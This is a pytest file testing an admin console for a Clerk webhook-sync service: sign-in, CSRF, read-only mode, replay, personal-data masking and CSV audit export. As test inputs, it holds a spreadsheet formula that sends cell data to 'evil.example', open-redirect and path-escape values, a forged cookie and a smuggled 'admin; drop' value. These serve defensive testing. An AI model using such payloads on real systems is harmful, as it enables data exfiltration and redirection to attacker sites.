"""The console over real HTTP (no browser), on SQLite and PostgreSQL: access rules, CSRF, read-only
mode, bad input, pagination, filters, bulk replay, CSV export."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from contextlib import contextmanager

import httpx
import pytest
import sqlalchemy as sa

from clerk_sync.auth.admin import AdminActions
from clerk_sync.auth.audit import AuditEntry, record_audit
from clerk_sync.config import Settings
from clerk_sync.errors import ConfigError
from clerk_sync.ingest import WebhookProcessor
from clerk_sync.integrations.console import _pages, create_console
from clerk_sync.integrations.console._queries import MEMBERS_SHOWN
from clerk_sync.store import Store
from clerk_sync.tables import users, webhook_events
from clerk_sync.webhooks import WebhookVerifier
from tests import factories as f
from tests.console.conftest import OPERATOR_TOKEN, ConsoleStack, make_stack, operator_client

HTML = {"Accept": "text/html"}


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, "no CSRF field on the page"
    return found.group(1)


def browser_like(stack: ConsoleStack) -> httpx.Client:
    return httpx.Client(base_url=stack.console_url, headers=HTML, timeout=30)


@contextmanager
def signed_in(stack: ConsoleStack, user_id: str) -> Iterator[httpx.Client]:
    with browser_like(stack) as client:
        response = client.get(stack.sign_in_link(user_id))
        assert response.status_code == 303, response.text[:300]
        yield client


def status_of(stack: ConsoleStack, svix_id: str) -> str:
    with stack.store.connect() as conn:
        return str(conn.execute(sa.select(webhook_events.c.status).where(webhook_events.c.svix_id == svix_id))
                   .scalar_one())


def delivery_id(stack: ConsoleStack, svix_id: str) -> int:
    with stack.store.connect() as conn:
        return int(conn.execute(sa.select(webhook_events.c.id).where(webhook_events.c.svix_id == svix_id))
                   .scalar_one())


def test_operator_bearer_sees_every_page(stack: ConsoleStack) -> None:
    with operator_client(stack) as client:
        for path in ("/", "/deliveries", "/drift", "/users", "/users?q=ada", f"/users/{stack.user_id}", "/audit"):
            response = client.get(path, headers=HTML)
            assert response.status_code == 200, (path, response.text[:500])
            assert "<nav>" in response.text
            assert response.headers["cache-control"] == "no-store"


def test_a_locked_or_deprovisioned_user_is_not_shown_as_active(stack: ConsoleStack) -> None:
    """The user's state as the auth faces judge it: a Clerk lockout (with its end, or none) and a Directory Sync
    deprovisioning are refused with 403 there, so the console must not call those users active."""
    def state() -> tuple[str, str]:
        with operator_client(stack) as client:
            page = client.get(f"/users/{stack.user_id}", headers=HTML).text
            listing = client.get(f"/users?q={stack.user_id}", headers=HTML).text
        found = re.search(r"<th>state</th><td>(.*?)</td></tr>", page, re.S)
        assert found, page[:500]
        return re.sub(r"<[^>]+>", "", found.group(1)), listing

    assert state()[0] == "active"
    with stack.store.engine.begin() as conn:  # 2030-01-01 00:00:00 UTC, in Clerk's milliseconds
        conn.execute(sa.update(users).where(users.c.clerk_id == stack.user_id)
                     .values(locked=True, locked_until=1_893_456_000_000))
    shown, listing = state()
    assert shown.startswith("locked until 2030-01-01 00:00:00 UTC"), shown
    assert '<span class="bad">locked</span>' in listing
    with stack.store.engine.begin() as conn:
        conn.execute(sa.update(users).where(users.c.clerk_id == stack.user_id).values(locked_until=None))
    assert state()[0] == "locked until Clerk unlocks"
    with stack.store.engine.begin() as conn:
        conn.execute(sa.update(users).where(users.c.clerk_id == stack.user_id).values(locked=False,
                                                                                     deprovisioned=True))
    shown, listing = state()
    assert shown.startswith("deprovisioned"), shown
    assert '<span class="bad">deprovisioned</span>' in listing


def test_a_large_organization_s_page_says_how_many_members_it_leaves_out(stack: ConsoleStack) -> None:
    processor = WebhookProcessor(stack.store, WebhookVerifier([f.SECRET]))
    events = [f.envelope("organization.created", f.organization("org_large", 10, name="Large"))]
    events += [f.envelope("organizationMembership.created", f.membership(
        f"orgmem_l{n:03}", "org_large", f"user_l{n:03}", 10, role="org:admin" if n == 250 else "org:member"))
        for n in range(MEMBERS_SHOWN + 60)]
    for n, event in enumerate(events):
        assert processor.process(*f.signed(event, f"msg_large_{n}")).status == "applied"
    with operator_client(stack) as client:
        page = client.get("/organizations/org_large", headers=HTML).text
    assert f"Members ({MEMBERS_SHOWN + 60})" in page
    assert f"The first {MEMBERS_SHOWN} of {MEMBERS_SHOWN + 60}, admins first" in page
    assert page.count("<td>org:") == MEMBERS_SHOWN and "user_l250" in page  # the one admin, joined late, shown


def test_strangers_are_sent_to_sign_in_and_api_callers_get_401(stack: ConsoleStack) -> None:
    with browser_like(stack) as client:
        response = client.get("/deliveries")
        assert response.status_code == 303 and response.headers["location"] == "/console/login?next=/console/deliveries"
        assert client.get("/login").status_code == 200
    api = httpx.get(f"{stack.console_url}/deliveries", headers={"Accept": "application/json"})
    assert api.status_code == 401 and api.json()["error"] == "token_missing"
    forged = httpx.get(f"{stack.console_url}/", headers=HTML, cookies={"clerk_sync_console": "eyJrIjoib3BlcmF0b3IifQ.x.y"})
    assert forged.status_code == 303  # a tampered cookie is no session


def test_operator_signs_in_with_the_login_form(stack: ConsoleStack) -> None:
    with browser_like(stack) as client:
        token = csrf_of(client.get("/login").text)
        wrong = client.post("/login", data={"csrf": token, "token": "nope"})
        assert wrong.status_code == 401 and "not the operator token" in wrong.text
        token = csrf_of(wrong.text)  # the form came back with a fresh token
        response = client.post("/login", data={"csrf": token, "token": OPERATOR_TOKEN, "next": "/console/audit"})
        assert response.status_code == 303 and response.headers["location"] == "/console/audit"
        assert client.get("/").status_code == 200
        token = csrf_of(client.get("/login").text)
        offsite = client.post("/login", data={"csrf": token, "token": OPERATOR_TOKEN, "next": "//evil.example/"})
        assert offsite.headers["location"] == "/console/"
    logins = [r for r in stack.audit_rows() if r["action"] == "console.login"]
    assert [(r["actor_clerk_id"], r["details"]["as"]) for r in logins] == [(None, "operator"), (None, "operator")]


def test_next_after_sign_in_never_leaves_the_console_through_dot_segments(stack: ConsoleStack) -> None:
    """Review finding: ``next=/console/../webhooks/clerk`` passed the prefix check; the browser resolved it to
    ``/webhooks/clerk`` (and ``/console/..//evil.example`` to the path ``//evil.example``)."""
    with browser_like(stack) as client:
        for escape in ("/console/../webhooks/clerk", "/console/..//evil.example", "/console/%2e%2e/metrics",
                       "/console/./../x", "/console/users/%2E%2E/%2e%2E/healthz", "/console/a\nb"):
            token = csrf_of(client.get("/login").text)
            response = client.post("/login", data={"csrf": token, "token": OPERATOR_TOKEN, "next": escape})
            assert (response.status_code, response.headers["location"]) == (303, "/console/"), escape
        for inside in ("/console/users?q=ada.l", "/console/deliveries?type=user.created#top"):
            token = csrf_of(client.get("/login").text)
            response = client.post("/login", data={"csrf": token, "token": OPERATOR_TOKEN, "next": inside})
            assert response.headers["location"] == inside


def test_the_login_form_needs_its_csrf_token(stack: ConsoleStack) -> None:
    response = httpx.post(f"{stack.console_url}/login", data={"token": OPERATOR_TOKEN}, headers=HTML)
    assert response.status_code == 403 and "clerk_sync_console" not in response.headers.get("set-cookie", "")
    assert stack.audit_rows() == []


def test_unauthenticated_post_without_csrf_is_refused_and_audits_nothing(stack: ConsoleStack) -> None:
    svix_id = stack.failed_delivery(stack.user_id, first_name="Gracie")
    target = f"{stack.console_url}/deliveries/{delivery_id(stack, svix_id)}/replay"
    assert httpx.post(target, headers=HTML).status_code == 401
    assert httpx.post(f"{stack.console_url}/users/{stack.user_id}/role", data={"role": "admin"}).status_code == 401
    assert status_of(stack, svix_id) == "failed"
    assert stack.user_row(stack.user_id)["role"] == "user"
    assert stack.audit_rows() == []


def test_a_signed_in_post_without_the_csrf_token_is_refused_and_audits_nothing(stack: ConsoleStack) -> None:
    svix_id = stack.failed_delivery(stack.user_id, first_name="Gracie")
    path = f"/deliveries/{delivery_id(stack, svix_id)}/replay"
    with signed_in(stack, stack.admin_id) as client:
        before = stack.audit_rows()
        assert client.post(path).status_code == 403
        assert client.post(path, data={"csrf": "forged"}).status_code == 403
        # A Clerk session cookie alone (no console session yet) has no CSRF token either.
        token = stack.emulator.mint_session_token(stack.admin_id)
        fresh = httpx.post(stack.console_url + path, cookies={"__session": token}, headers=HTML)
        assert fresh.status_code == 403
        assert stack.audit_rows() == before
        assert status_of(stack, svix_id) == "failed"
        ok = client.post(path, data={"csrf": csrf_of(client.get("/").text)})
        assert ok.status_code == 303 and status_of(stack, svix_id) == "applied"


def test_a_clerk_session_cookie_signs_an_admin_in(stack: ConsoleStack) -> None:
    token = stack.emulator.mint_session_token(stack.admin_id)
    response = httpx.get(f"{stack.console_url}/", cookies={"__session": token}, headers=HTML)
    assert response.status_code == 200 and stack.admin_id in response.text
    assert "clerk_sync_console=" in response.headers["set-cookie"]
    assert [r["details"]["method"] for r in stack.audit_rows() if r["action"] == "console.login"] == ["clerk_session"]


def test_a_clerk_session_cookie_with_the_consoles_own_origin_signs_in_and_a_foreign_one_is_refused(
        stack: ConsoleStack) -> None:
    """Review finding: the console asked ``authenticate()`` without the request's method and scheme, so a
    Clerk cookie sent with the console's own ``Origin`` was refused as cross-site (its own origin unknown)."""
    token = stack.emulator.mint_session_token(stack.admin_id)
    origin = str(httpx.URL(stack.console_url).copy_with(path="/", query=None)).rstrip("/")
    own = httpx.get(f"{stack.console_url}/", cookies={"__session": token}, headers={**HTML, "Origin": origin})
    assert own.status_code == 200 and "clerk_sync_console=" in own.headers["set-cookie"]
    foreign = httpx.post(f"{stack.console_url}/deliveries/replay", cookies={"__session": token},
                         headers={**HTML, "Origin": "https://evil.example.test"})
    assert foreign.status_code == 403 and "clerk_sync_console=" not in foreign.headers.get("set-cookie", "")


def test_a_refused_first_request_of_a_clerk_session_opens_no_console_session(stack: ConsoleStack) -> None:
    """Review finding: a Clerk sign-in whose first request was refused (a NUL: 400; a POST without the CSRF
    token: 403) still got a working console cookie, and no ``console.login`` row recorded it."""
    token = stack.emulator.mint_session_token(stack.admin_id)
    refused = [httpx.get(f"{stack.console_url}/deliveries", params={"type": "user.\x00"}, headers=HTML,
                         cookies={"__session": token}),
               httpx.post(f"{stack.console_url}/deliveries/replay", headers=HTML, cookies={"__session": token})]
    assert [r.status_code for r in refused] == [400, 403]
    assert all("clerk_sync_console=" not in r.headers.get("set-cookie", "") for r in refused)
    assert stack.audit_rows() == []
    ok = httpx.get(f"{stack.console_url}/", cookies={"__session": token}, headers=HTML)
    assert ok.status_code == 200 and "clerk_sync_console=" in ok.headers["set-cookie"]
    assert [r["action"] for r in stack.audit_rows()] == ["console.login"]


def test_a_non_admin_gets_403_without_content(stack: ConsoleStack) -> None:
    token = stack.emulator.mint_session_token(stack.user_id)
    for response in (httpx.get(f"{stack.console_url}/", cookies={"__session": token}, headers=HTML),
                     httpx.get(f"{stack.console_url}/deliveries", headers={"Authorization": f"Bearer {token}"})):
        assert response.status_code == 403
        assert "<nav" not in response.text and "ada@example.com" not in response.text
        assert "set-cookie" not in response.headers
    assert response.json()["error"] == "access_denied"


def test_a_demoted_admin_loses_access_at_once(stack: ConsoleStack) -> None:
    with signed_in(stack, stack.admin_id) as client:
        assert client.get("/").status_code == 200
        assert stack.console.clerk is not None
        AdminActions(stack.store, stack.console.clerk).promote(stack.admin_id, "user", by=None)
        response = client.get("/")
        assert response.status_code == 403 and "<nav" not in response.text


def test_bad_input_is_a_clear_400_and_writes_nothing(stack: ConsoleStack) -> None:
    with operator_client(stack) as client:
        response = client.get("/deliveries", params={"status": "bogus"})
        assert response.status_code == 400 and "status='bogus' is not one of" in response.json()["message"]
        assert client.get("/deliveries", params={"since": "yesterday"}).status_code == 400
        assert client.get("/audit", params={"before": "abc"}).status_code == 400
        assert client.get("/deliveries/999999").status_code == 404
        assert client.get("/users/user_missing").status_code == 404
        assert client.post(f"/users/{stack.user_id}/role", data={"role": "admin; drop"}).status_code == 400
        assert client.post("/drift/run", data={"mode": "everything"}).status_code == 400
    assert stack.audit_rows() == []
    assert stack.user_row(stack.user_id)["role"] == "user"


def test_deliveries_page_by_keyset_and_filter(stack: ConsoleStack) -> None:
    for i in range(60):
        stack.failed_delivery(stack.user_id if i % 3 else stack.admin_id, first_name=f"n{i}")
    seen: list[int] = []
    with operator_client(stack) as client:
        path = "/deliveries?status=failed"
        while path:
            html = client.get(path).text
            seen += [int(n) for n in re.findall(r'/console/deliveries/(\d+)"', html)]
            more = re.search(r'href="/console(/deliveries\?[^"]*before=\d+[^"]*)"', html)
            path = more.group(1).replace("&amp;", "&") if more else ""
        assert len(seen) == 60 and seen == sorted(seen, reverse=True)
        about_ada = client.get("/deliveries", params={"clerk_id": stack.admin_id, "status": "failed"}).text
        assert len(re.findall(r'/console/deliveries/(\d+)"', about_ada)) == 20
        created = client.get("/deliveries", params={"type": "user.created"}).text
        assert len(re.findall(r'/console/deliveries/(\d+)"', created)) == 2


def test_replay_all_failed_matching_a_filter(stack: ConsoleStack) -> None:
    grace = [stack.failed_delivery(stack.user_id, first_name=f"G{i}") for i in range(3)]
    ada = stack.failed_delivery(stack.admin_id, first_name="Ada2")
    with operator_client(stack) as client:
        response = client.post("/deliveries/replay", data={"clerk_id": stack.user_id})
        assert response.status_code == 303 and "replayed+3" in response.headers["location"]
    assert [status_of(stack, s) for s in grace] == ["applied", "skipped", "skipped"]  # replayed oldest first
    assert status_of(stack, ada) == "failed"
    assert stack.user_row(stack.user_id)["first_name"] == "G0"  # same updated_at: the first applied wins
    [row] = [r for r in stack.audit_rows() if r["action"] == "console.deliveries_replayed"]
    assert row["details"]["total"] == 3 and row["target_clerk_id"] == stack.user_id


def _refuse_replaying_g1(store: Store) -> None:
    """Make the database refuse any update of the delivery that names Grace "G1" (a trigger): its replay
    fails with a StoreError, as when the database goes away."""
    statements = {
        "postgresql": ["CREATE FUNCTION refuse_g1() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                       "IF NEW.payload -> 'data' ->> 'first_name' = 'G1' THEN RAISE EXCEPTION 'injected fault'; "
                       "END IF; RETURN NEW; END $$",
                       "CREATE TRIGGER refuse_g1 BEFORE UPDATE ON webhook_events FOR EACH ROW EXECUTE FUNCTION refuse_g1()"],
        "sqlite": ["CREATE TRIGGER refuse_g1 BEFORE UPDATE ON webhook_events "
                   "WHEN json_extract(NEW.payload, '$.data.first_name') = 'G1' "
                   "BEGIN SELECT RAISE(ABORT, 'injected fault'); END"],
        "mysql": ["CREATE TRIGGER refuse_g1 BEFORE UPDATE ON webhook_events FOR EACH ROW "
                  "IF JSON_VALUE(NEW.payload, '$.data.first_name') = 'G1' "
                  "THEN SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = 'injected fault'; END IF"],
    }[store.dialect]
    with store.engine.begin() as conn:
        for statement in statements:
            conn.exec_driver_sql(statement)


def test_bulk_replay_audits_each_replay_even_when_the_database_fails_midway(stack: ConsoleStack) -> None:
    """Review finding: the bulk replay wrote its one audit row after the loop, so a database error on the
    2nd of 3 deliveries left the 1st replayed and unaudited. Each replay now commits with its own row."""
    grace = [stack.failed_delivery(stack.user_id, first_name=f"G{i}") for i in range(3)]
    _refuse_replaying_g1(stack.store)
    with operator_client(stack) as client:
        response = client.post("/deliveries/replay", data={"clerk_id": stack.user_id})
        assert response.status_code == 503 and response.json()["error"] == "store_unavailable"  # cause: the log
    assert [status_of(stack, s) for s in grace] == ["applied", "failed", "failed"]
    replayed = [r for r in stack.audit_rows() if r["action"] == "console.delivery_replayed"]
    assert [(r["target_clerk_id"], r["details"]["svix_id"], r["details"]["result"], r["details"]["as"])
            for r in replayed] == [(stack.user_id, grace[0], "applied", "operator")]


def test_reveal_is_audited_and_masking_hides_personal_fields(stack: ConsoleStack) -> None:
    svix_id = stack.failed_delivery(stack.user_id, private_metadata={"stripe": "cus_123"})
    path = f"/deliveries/{delivery_id(stack, svix_id)}"
    with operator_client(stack) as client:
        masked = client.get(path, headers=HTML).text
        assert "grace@example.com" not in masked and "Hopper" not in masked and "cus_123" not in masked
        revealed = client.post(path + "/reveal", headers=HTML).text
        assert "grace@example.com" in revealed and "cus_123" in revealed
    [row] = [r for r in stack.audit_rows() if r["action"] == "console.payload_revealed"]
    assert row["target_clerk_id"] == stack.user_id and row["details"]["svix_id"] == svix_id


def test_audit_log_filters_and_exports_csv(stack: ConsoleStack) -> None:
    with operator_client(stack) as client:
        client.post(f"/users/{stack.user_id}/role", data={"role": "admin"})
        svix_id = stack.failed_delivery(stack.admin_id, first_name="A")
        client.post(f"/deliveries/{delivery_id(stack, svix_id)}/reveal")
        page = client.get("/audit", params={"action": "role.changed"}, headers=HTML).text
        assert "role.changed" in page and "console.payload_revealed" not in page
        exported = client.get("/audit.csv", params={"target": stack.user_id})
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["action"] for r in rows] == ["role.changed"]
    assert rows[0]["target_clerk_id"] == stack.user_id and '"to": "admin"' in rows[0]["details"]
    # A text any user can have audited (a refused impersonation of this "Clerk id") is no formula there
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with stack.store.transaction() as writer:
        record_audit(writer, AuditEntry("impersonation.refused", stack.user_id, formula))
    with operator_client(stack) as client:
        exported = client.get("/audit.csv", params={"action": "impersonation.refused"})
    assert [r["target_clerk_id"] for r in csv.DictReader(io.StringIO(exported.text))] == ["'" + formula]


def test_the_csv_export_keeps_the_newest_rows_and_says_it_was_cut(
        stack: ConsoleStack, monkeypatch: pytest.MonkeyPatch) -> None:
    """Review finding: over MAX_CSV_ROWS the export sorted oldest first and cut, so the newest rows (those an
    incident needs) were the ones dropped, silently. It keeps the newest, oldest first, and a last row says so."""
    monkeypatch.setattr(_pages, "MAX_CSV_ROWS", 3)
    with stack.store.transaction() as writer:
        for i in range(5):
            record_audit(writer, AuditEntry("impersonation.refused", stack.admin_id, f"user_t{i}"))
    with operator_client(stack) as client:
        cut = list(csv.DictReader(io.StringIO(client.get("/audit.csv", params={"action": "impersonation.refused"})
                                              .text)))
        whole = list(csv.DictReader(io.StringIO(client.get("/audit.csv", params={"target": "user_t4"}).text)))
    assert [r["target_clerk_id"] for r in cut[:-1]] == ["user_t2", "user_t3", "user_t4"]
    assert cut[-1]["action"] == "export.truncated" and "only the newest 3" in cut[-1]["details"]
    assert [(r["action"], r["target_clerk_id"]) for r in whole] == [("impersonation.refused", "user_t4")]


def test_a_refused_reconcile_start_is_not_audited_as_started(stack: ConsoleStack) -> None:
    """Review finding: the ``console.reconcile.started`` row was written before the start, so a click while a
    run was going (409 busy) was audited as a run that never happened."""
    assert stack.console.drift is not None
    stack.emulator.set_faults(latency_s=1.0)  # the first run is still reading Clerk at the second click
    try:
        with operator_client(stack) as client:
            assert client.post("/drift/run", data={"mode": "dry_run"}).status_code == 303
            busy = client.post("/drift/run", data={"mode": "apply"})
            assert (busy.status_code, busy.json()["error"]) == (409, "reconcile_busy")
    finally:
        stack.emulator.set_faults(latency_s=0.0)
        assert stack.console.drift.wait(30)
    started = [r for r in stack.audit_rows() if r["action"] == "console.reconcile.started"]
    assert [r["details"]["dry_run"] for r in started] == [True]


def test_masking_keeps_only_clerk_ids_under_id_keys(stack: ConsoleStack) -> None:
    """Review finding: every ``*_id`` key was shown in clear, so an email in ``external_id``, a SAML
    ``provider_user_id`` and a ``tax_id`` in public metadata were too. Only a value shaped like a Clerk id is."""
    personal = ("ada.lovelace@corp.example", "ada@idp.example", "123-45-6789", "de_DE123456789", "emp_4471")
    saml = {"object": "saml_account", "id": "samlacc_2g7np7Hrk0SN6kj5EDMLDaKNL0S", "provider_user_id": personal[1]}
    svix_id = stack.failed_delivery(stack.user_id, external_id=personal[0], saml_accounts=[saml],
                                    public_metadata={"tax_id": personal[2], "vat_id": personal[3],
                                                     "employee_id": personal[4]})  # (id-like, not Clerk's)
    path = f"/deliveries/{delivery_id(stack, svix_id)}"
    with operator_client(stack) as client:
        masked = client.get(path, headers=HTML).text
        revealed = client.post(path + "/reveal", headers=HTML).text
    assert not [p for p in personal if p in masked]
    assert stack.user_id in masked and saml["id"] in masked  # Clerk ids stay readable
    assert all(p in revealed for p in personal)


@pytest.fixture
def read_only_stack(db_url: str) -> Iterator[ConsoleStack]:
    yield from make_stack(db_url, CLERK_SYNC_CONSOLE_READ_ONLY="1")


def test_read_only_mode_refuses_every_action(read_only_stack: ConsoleStack) -> None:
    stack = read_only_stack
    svix_id = stack.failed_delivery(stack.user_id, first_name="Gracie")
    with operator_client(stack) as client:
        page = client.get(f"/deliveries/{delivery_id(stack, svix_id)}", headers=HTML).text
        assert "read-only" in page and 'data-testid="replay"' not in page
        for path, form in ((f"/deliveries/{delivery_id(stack, svix_id)}/replay", {}),
                           (f"/users/{stack.user_id}/role", {"role": "admin"}), ("/drift/run", {"mode": "apply"})):
            response = client.post(path, data=form)
            assert response.status_code == 403 and "read-only" in response.json()["message"]
    assert status_of(stack, svix_id) == "failed" and stack.audit_rows() == []


def test_a_read_only_console_can_still_sign_out(read_only_stack: ConsoleStack) -> None:
    """Review finding: the read-only guard refused POST /logout too, so nobody could sign out."""
    stack = read_only_stack
    with signed_in(stack, stack.admin_id) as client:
        token = csrf_of(client.get("/").text)
        assert client.post("/logout").status_code == 403  # the CSRF check still holds
        response = client.post("/logout", data={"csrf": token})
        assert response.status_code == 303 and response.headers["location"] == "/console/login"
        assert 'clerk_sync_console=""' in response.headers["set-cookie"]
        assert client.get("/").status_code == 303  # signed out: sent to the sign-in page


def test_a_console_nobody_can_sign_in_to_is_a_config_error(db_url: str) -> None:
    store = Store.from_url(db_url)
    with pytest.raises(ConfigError, match="CLERK_SYNC_CONSOLE_TOKEN"):
        create_console(store, Settings.from_env({"CLERK_SYNC_CONSOLE": "1"}))
    store.dispose()


def test_settings_read_the_console_variables() -> None:
    settings = Settings.from_env({"CLERK_SYNC_CONSOLE": "1", "CLERK_SYNC_CONSOLE_TOKEN": " ",
                                  "CLERK_SYNC_CONSOLE_READ_ONLY": "true"})
    assert settings.console_enabled and settings.console_read_only and settings.console_operator_token is None
    assert not Settings.from_env({}).console_enabled


def test_overview_shows_the_freshness_checks_of_the_alert_rules(stack: ConsoleStack) -> None:
    with operator_client(stack) as client:
        calm = client.get("/", headers=HTML).text
        assert 'data-testid="freshness"' in calm and '<span class="bad">fail</span>' not in calm
        stack.failed_delivery(stack.user_id, first_name="Gracie")
        alarmed = client.get("/", headers=HTML).text
    row = re.search(r"<tr><td><span class=\"bad\">fail</span></td><td>([^<]+)</td>", alarmed)
    assert row is not None and "failed" in row.group(1)  # CLERK_SYNC_FRESHNESS_MAX_FAILED is 0 by default


def test_overview_shows_rows_the_apps_mapped_table_refused(stack: ConsoleStack) -> None:
    """As `doctor --freshness` (ClerkSyncMappedRowsRefused): a delivery applied to clerk-sync's tables whose row
    the app's mapped table refused fails the overview's "mapped rows" line."""
    from clerk_sync.outbox import REFUSAL_NOTE

    with operator_client(stack) as client:
        calm = client.get("/", headers=HTML).text
        assert "mapped rows" in calm
        with stack.store.transaction() as w:
            w.record_delivery("msg_refused_row", {"object": "event", "type": "user.created", "data": {}}, event_type=
                              "user.created", instance_id=None, event_timestamp=None, status="applied",
                              error=f"{REFUSAL_NOTE} (accounts): NOT NULL constraint failed: accounts.tenant_id")
        alarmed = client.get("/", headers=HTML).text
    row = re.search(r"<tr><td><span class=\"bad\">fail</span></td><td>mapped rows</td><td>([^<]+)</td>", alarmed)
    assert row is not None and "msg_refused_row" in row.group(1)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_the_overview_says_the_circuit_is_open_only_while_calls_are_refused(stack: ConsoleStack) -> None:
    """Review finding: the card read ``is_open``, which stays set until a call succeeds; the console's client
    calls Clerk rarely, so it said "circuit open" for days after Clerk was back, while
    ``clerk_sync_clerk_api_circuit_open`` (``refusing()``) read 0. Both read the same now."""
    from clerk_sync.clerk_api import CircuitBreaker

    now = [1000.0]
    assert stack.console.clerk is not None
    breaker = stack.console.clerk.breaker = CircuitBreaker(threshold=1, reset_s=5.0, clock=lambda: now[0])
    breaker.failure()

    def card() -> str:
        with operator_client(stack) as client:
            page = client.get("/", headers=HTML)
            assert page.status_code == 200
            return page.text

    assert "circuit open" in card()
    now[0] += 3600  # an hour on, no call since: the next one goes through
    assert breaker.is_open and not breaker.refusing()
    assert "circuit open" not in card() and "reachable" in card()
